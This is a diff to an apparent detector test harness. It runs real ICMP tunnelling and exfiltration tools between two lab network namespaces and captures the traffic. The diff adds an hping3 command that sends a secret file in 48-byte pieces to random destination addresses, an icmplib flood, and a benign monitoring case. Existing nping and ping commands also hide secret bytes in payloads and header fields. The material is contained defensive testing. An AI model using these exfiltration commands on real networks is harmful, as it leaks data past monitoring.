@@ -1,10 +1,11 @@
 """Real ICMP tunnel and exfiltration tools, run between two network namespaces and recorded.
 
-Each case function runs one real tool (the Debian package) from the *inside* host
-(netlab's peer, 10.231.0.2) towards the *outside* host (netlab's sensor host,
+Each case function runs one real tool (the Debian package; icmplib from PyPI) from the
+*inside* host (netlab's peer, 10.231.0.2) towards the *outside* host (netlab's sensor host,
 10.231.0.1), records everything that crossed the veth pair with tcpdump on the outside
 end, and returns the pcap's path (`WORKDIR/<case>.pcap`). The data always leaves from the
-inside host, so `LIVE_EXPECTED[case]` is (inside, outside) for every case.
+inside host, so `LIVE_EXPECTED[case]` is (inside, outside) for every positive case but the
+spread, whose destinations are many ((inside, "*")), and None for the benign one.
 
 Cases (`LIVE_CASES`):
 
@@ -21,9 +22,20 @@ Cases (`LIVE_CASES`):
 * nping-ident-seq   `nping --icmp -c 1 -N --data-string probe --icmp-id ID --icmp-seq SEQ` run 200
                     times, ID and SEQ the next 4 bytes of a secret (one constant payload: the data is
                     in the header fields).
+* icmplib-monitor   BENIGN: icmplib as Home Assistant's ping integration calls it (async_ping(host,
+                    count=5, timeout=1, privileged=True) per host; async_multiping), a round every
+                    10 s for 6 rounds to 4 addresses of the outside host (icmplib's own random padding).
+* icmplib-flood     the same layout at exfiltration volume: icmplib.ping(outside, count=50,
+                    interval=0.01) 8 times back to back (400 requests in about 5 s, every one with
+                    icmplib's exact layout, seq < 64).
+* hping3-rand-dest  `hping3 --icmp --rand-dest 10.77.x.x -I IF -d 48 -E FILE -c 200 -i u20000`: a
+                    file in 48-byte pieces, each to a random address of 10.77.0.0/16 (routed from the
+                    inside host to the outside host, where a blackhole route drops them).
 
 Safety: packets only cross the veth pair between the two namespaces created here (the
-TCP endpoints are small Python scripts bound to the namespaces' own addresses). Every
+TCP endpoints are small Python scripts bound to the namespaces' own addresses; icmplib's
+extra hosts are addresses added to the outside namespace for the case; hping3's random
+destinations are routed into the veth and blackholed on the far side, both routes removed after). Every
 process runs under `timeout` in its own session and is killed by its process group
 afterwards, and the namespaces are deleted, also when something fails.
 """
@@ -31,6 +43,8 @@ afterwards, and the namespaces are deleted, also when something fails.
 from __future__ import annotations
 
 import contextlib
+import importlib.metadata
+import importlib.util
 import itertools
 import os
 import re
@@ -44,7 +58,7 @@ from pathlib import Path
 
 import dpkt
 
-from testkit.netlab import PEER_IP, SENSOR_IF, SENSOR_IP, Lab, wait_for
+from testkit.netlab import PEER_IF, PEER_IP, SENSOR_IF, SENSOR_IP, Lab, wait_for
 
 INSIDE, OUTSIDE = PEER_IP, SENSOR_IP  # the host the data leaves from, and its peer
 TUN_OUTSIDE, TUN_INSIDE = "10.232.9.1", "10.232.9.2"  # icmptx's tunnel addresses
@@ -90,6 +104,63 @@ ICMPTX_SERVER = ["icmptx", "-s", OUTSIDE]
 ICMPTX_CLIENT = ["icmptx", "-c", OUTSIDE]
 NPING = ["nping", "--icmp", "--icmp-type", "echo", "-c", "20", "--delay", "100ms", "--data-string", SECRET_STRING,
          OUTSIDE]
+# hping3 --rand-dest: each packet to a random address of SPREAD_NET, which the inside host routes into
+# the veth and the outside host (forwarding off) blackholes: captured on the veth, sent nowhere else.
+SPREAD_NET = "10.77.0.0/16"
+HPING_RAND_DEST = ["hping3", "--icmp", "--rand-dest", "10.77.x.x", "-I", PEER_IF, "-d", "48", "-E", "{file}",
+                   "-c", "200", "-i", "u20000", "-q"]
+SPREAD_ROUTES = {"inside": [["route", SPREAD_NET, "via", OUTSIDE, "dev", PEER_IF]],
+                 "outside": [["route", "blackhole", SPREAD_NET]]}
+# icmplib (PyPI) as Home Assistant's ping integration calls it (home-assistant/core,
+# homeassistant/components/ping/helpers.py PingDataICMPLib.async_update: async_ping(host, count=5 (the
+# integration's default count), timeout=ICMP_TIMEOUT (1), privileged=...), one coordinator per host,
+# coordinator.py: every 30 s; the device tracker pings its hosts with async_multiping). Here a round
+# every 10 s, three times Home Assistant's rate, to see several rounds in a minute: the binary sensors'
+# way (one async_ping per host, side by side) and the device tracker's (async_multiping) in turn. The
+# extra hosts are addresses added to the outside host for the case.
+ICMPLIB_HOSTS = [OUTSIDE, "10.231.0.11", "10.231.0.12", "10.231.0.13"]
+ICMPLIB_ADDRS = {"outside": [["addr", f"{host}/32", "dev", SENSOR_IF] for host in ICMPLIB_HOSTS[1:]]}
+# (mode, rounds, seconds from one round's start to the next's, count, interval): icmplib's keyword arguments
+ICMPLIB_MONITOR = ("monitor", 6, 10.0, 5, 1.0)
+ICMPLIB_FLOOD = ("flood", 8, 0.0, 50, 0.01)  # count 50: every request keeps icmplib's layout (seq < 64)
+_ICMPLIB = r"""
+import asyncio, sys, time
+from icmplib import async_multiping, async_ping, ping
+mode, rounds, every, hosts = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[6:]
+kw = dict(count=int(sys.argv[4]), interval=float(sys.argv[5]), timeout=1, privileged=True)
+
+async def each_host():
+    return await asyncio.gather(*(async_ping(host, **kw) for host in hosts))
+
+start, sent, received = time.monotonic(), 0, 0
+for r in range(rounds):
+    time.sleep(max(0.0, start + r * every - time.monotonic()))
+    if mode == "flood":
+        results = [ping(host, **kw) for host in hosts]
+    elif r % 2:
+        results = asyncio.run(async_multiping(hosts, **kw))
+    else:
+        results = asyncio.run(each_host())
+    sent += sum(h.packets_sent for h in results)
+    received += sum(h.packets_received for h in results)
+print("sent", sent, "received", received, flush=True)
+raise SystemExit(0 if sent == received == rounds * kw["count"] * len(hosts) else 1)
+"""
+
+
+def _icmplib_argv(spec: tuple[str, int, float, int, float], hosts: list[str]) -> list[str]:
+    return [sys.executable, "-c", _ICMPLIB, *(str(v) for v in spec), *hosts]
+
+
+def _icmplib_text(spec: tuple[str, int, float, int, float], hosts: list[str]) -> str:
+    mode, rounds, every, count, interval = spec
+    args = f"count={count}, interval={interval:g}, timeout=1, privileged=True"
+    if mode == "flood":
+        return f"{rounds} x icmplib.ping({', '.join(map(repr, hosts))}, {args}) back to back"
+    return (f"a round every {every:g} s, {rounds} rounds, in turn asyncio.gather(*(icmplib.async_ping(host, {args}) "
+            f"for host in HOSTS)) and icmplib.async_multiping(HOSTS, {args}); HOSTS {', '.join(hosts)}")
+
+
 # Frames on the veth are at most 1514 bytes (MTU 1500; larger ICMP is fragmented). With the
 # default 262144-byte snap length the immediate-mode ring holds only 8 frames and a tunnel's
 # burst of 1 kB echoes is dropped by the kernel: 4096 bytes per frame and a 16 MiB buffer.
@@ -222,9 +293,31 @@ def _lab(lab: Lab | None) -> Iterator[Lab]:
 
 
 @contextlib.contextmanager
-def _capture(run: _Run, pcap: Path) -> Iterator[None]:
-    """tcpdump on the outside end of the veth for the duration of the block (at most 60 s)."""
-    tcpdump = run.start("outside", _fmt(TCPDUMP, pcap=pcap), 60, "tcpdump")
+def _ip_added(lab: Lab, changes: dict[str, list[list[str]]]) -> Iterator[None]:
+    """`ip OBJECT add ARGS...` for each [OBJECT, ARGS...] in the namespaces ("inside"/"outside") for one case,
+    deleted again afterwards, however the case ends."""
+    done: list[tuple[Callable[..., object], list[str]]] = []
+    try:
+        for where, commands in changes.items():
+            in_ns = lab.in_sensor if where == "outside" else lab.in_peer
+            for obj, *args in commands:
+                in_ns("ip", obj, "add", *args)
+                done.append((in_ns, [obj, *args]))
+        yield
+    finally:
+        for in_ns, (obj, *args) in reversed(done):
+            in_ns("ip", obj, "del", *args, check=False)
+
+
+def _ip_text(changes: dict[str, list[list[str]]]) -> str:
+    return "; ".join(f"{where}: ip {obj} add {' '.join(args)}" for where, commands in changes.items()
+                     for obj, *args in commands)
+
+
+@contextlib.contextmanager
+def _capture(run: _Run, pcap: Path, limit: float = 60) -> Iterator[None]:
+    """tcpdump on the outside end of the veth for the duration of the block (at most `limit` s)."""
+    tcpdump = run.start("outside", _fmt(TCPDUMP, pcap=pcap), limit, "tcpdump")
     if not wait_for(lambda: "listening on" in tcpdump.output() or tcpdump.proc.poll() is not None, 10):
         raise run.fail("tcpdump did not start listening within 10 s")
     if tcpdump.proc.poll() is not None:
@@ -256,7 +349,7 @@ def _one_sender(workdir: Path, name: str, argv: list[str], limit: float, lab: La
     with _lab(lab) as lab_, contextlib.ExitStack() as stack:
         run = _Run(lab_, workdir, name)
         stack.callback(run.stop_all)
-        with _capture(run, pcap):
+        with _capture(run, pcap, max(60, limit + 10)):
             code = run.start("inside", argv, limit, name).wait(limit + 5)
             if code is None or (exit_zero and code != 0):
                 raise run.fail(f"{name} did not finish" if code is None else f"{name} failed")
@@ -402,6 +495,26 @@ def nping_ident_seq(workdir: Path, lab: Lab | None = None) -> Path:
     return _shell_loop(workdir, "nping-ident-seq", NPING_IDENT_SEQ.format(words=words), 90, lab)
 
 
+def hping3_rand_dest(workdir: Path, lab: Lab | None = None) -> Path:
+    """hping3 --rand-dest: the file in 200 x 48-byte echo requests, each to a random address of SPREAD_NET."""
+    with _lab(lab) as lab_, _ip_added(lab_, SPREAD_ROUTES):
+        return _hping3(workdir, "hping3-rand-dest", HPING_RAND_DEST, 15, lab_)
+
+
+def icmplib_monitor(workdir: Path, lab: Lab | None = None) -> Path:
+    """BENIGN: icmplib as Home Assistant calls it, a round every 10 s to 4 hosts for about a minute."""
+    workdir.mkdir(parents=True, exist_ok=True)
+    limit = ICMPLIB_MONITOR[1] * ICMPLIB_MONITOR[2] + 10
+    with _lab(lab) as lab_, _ip_added(lab_, ICMPLIB_ADDRS):
+        return _one_sender(workdir, "icmplib-monitor", _icmplib_argv(ICMPLIB_MONITOR, ICMPLIB_HOSTS), limit, lab_)
+
+
+def icmplib_flood(workdir: Path, lab: Lab | None = None) -> Path:
+    """icmplib's layout at exfiltration volume: 8 x ping(outside, count=50, interval=0.01), 400 requests."""
+    workdir.mkdir(parents=True, exist_ok=True)
+    return _one_sender(workdir, "icmplib-flood", _icmplib_argv(ICMPLIB_FLOOD, [OUTSIDE]), 30, lab)
+
+
 def nping_data(workdir: Path, lab: Lab | None = None) -> Path:
     """nping: 20 echo requests carrying the same secret string, 100 ms apart."""
     workdir.mkdir(parents=True, exist_ok=True)
@@ -419,9 +532,17 @@ LIVE_CASES: dict[str, Callable[[Path], Path]] = {
     "nping-data": nping_data,
     "ping-patterns": ping_patterns,
     "nping-ident-seq": nping_ident_seq,
+    "icmplib-monitor": icmplib_monitor,
+    "icmplib-flood": icmplib_flood,
+    "hping3-rand-dest": hping3_rand_dest,
 }
 
-LIVE_EXPECTED: dict[str, tuple[str, str]] = {case: (INSIDE, OUTSIDE) for case in LIVE_CASES}
+# case -> (the host the data leaves from, its peer or "*": any of many); None: benign, no notice at all
+LIVE_EXPECTED: dict[str, tuple[str, str] | None] = {
+    **{case: (INSIDE, OUTSIDE) for case in LIVE_CASES},
+    "icmplib-monitor": None,
+    "hping3-rand-dest": (INSIDE, "*"),
+}
 
 # Cases where the outside host runs the other end of a tunnel and itself sends tunnel data back
 # (ptunnel's proxy: acks and the TCP reply; icmptx's server: the TCP acks and reply as IP packets).
@@ -439,10 +560,19 @@ _TOOLS: dict[str, tuple[str, tuple[str, ...]]] = {
     "nping-data": ("nmap", ("nping",)),
     "ping-patterns": ("iputils-ping", ("ping", "sh")),
     "nping-ident-seq": ("nmap", ("nping", "sh")),
+    "icmplib-monitor": ("icmplib", ()),
+    "icmplib-flood": ("icmplib", ()),
+    "hping3-rand-dest": ("hping3", ("hping3",)),
 }
+_PYPI = frozenset({"icmplib"})  # packages from PyPI (the `test` extra), the rest from Debian
 
 
 def _package_version(package: str) -> str:
+    if package in _PYPI:
+        try:
+            return importlib.metadata.version(package)
+        except importlib.metadata.PackageNotFoundError:
+            return "not installed"
     try:
         out = subprocess.run(["dpkg-query", "-W", "-f", "${Version}", package], capture_output=True, text=True,
                              timeout=10)
@@ -468,11 +598,20 @@ _COMMANDS: dict[str, str] = {
     "nping-data": _cmd(NPING),
     "ping-patterns": PING_PATTERNS.format(patterns="<40 x 16 secret bytes in hex>"),
     "nping-ident-seq": NPING_IDENT_SEQ.format(words="<200 x id:seq, 4 secret bytes each>"),
+    "icmplib-monitor": f"{_ip_text(ICMPLIB_ADDRS)}; inside: {_icmplib_text(ICMPLIB_MONITOR, ICMPLIB_HOSTS)}",
+    "icmplib-flood": _icmplib_text(ICMPLIB_FLOOD, [OUTSIDE]),
+    "hping3-rand-dest": f"{_ip_text(SPREAD_ROUTES)}; inside: {_cmd(_fmt(HPING_RAND_DEST, file='secret.txt'))}",
+}
+
+_TO: dict[str, str] = {  # where the packets went, where it is not the outside host's one address
+    "icmplib-monitor": f"outside {', '.join(ICMPLIB_HOSTS)}",
+    "hping3-rand-dest": f"random addresses of {SPREAD_NET} (routed to outside {OUTSIDE}, blackholed there)",
 }
 
 LIVE_PROVENANCE: dict[str, str] = {
-    case: f"{package} {_package_version(package)} (Debian): {_COMMANDS[case]}; inside {INSIDE} -> outside "
-          f"{OUTSIDE}, captured with {_cmd(_fmt(TCPDUMP, pcap=case + '.pcap'))} on the outside end of the veth pair"
+    case: f"{package} {_package_version(package)} ({'PyPI' if package in _PYPI else 'Debian'}): {_COMMANDS[case]}; "
+          f"inside {INSIDE} -> {_TO.get(case, f'outside {OUTSIDE}')}, captured with "
+          f"{_cmd(_fmt(TCPDUMP, pcap=case + '.pcap'))} on the outside end of the veth pair"
     for case, (package, _) in _TOOLS.items()
 }
 
@@ -487,6 +626,8 @@ def missing_prerequisite(case: str | None = None) -> str | None:
     if case is None:
         return None
     package, tools = _TOOLS[case]
+    if package in _PYPI and importlib.util.find_spec(package) is None:
+        return f"{case}: the Python package {package} is not installed (PyPI; pip install -e '.[test]')"
     for tool in tools:
         if shutil.which(tool) is None:
             return f"{case}: {tool} is not installed (Debian package {package}; bash packaging/dev.sh setup)"
@@ -549,7 +690,7 @@ def main(argv: list[str]) -> int:
         start = time.monotonic()
         pcap = LIVE_CASES[case](workdir)
         print(f"{case}: {pcap} in {time.monotonic() - start:.1f} s; first exfil packet at "
-              f"{first_exfil_time(pcap, LIVE_EXPECTED[case][0])}; {capture_summary(pcap)}")
+              f"{first_exfil_time(pcap, INSIDE)}; {capture_summary(pcap)}")
     return 0
 
 
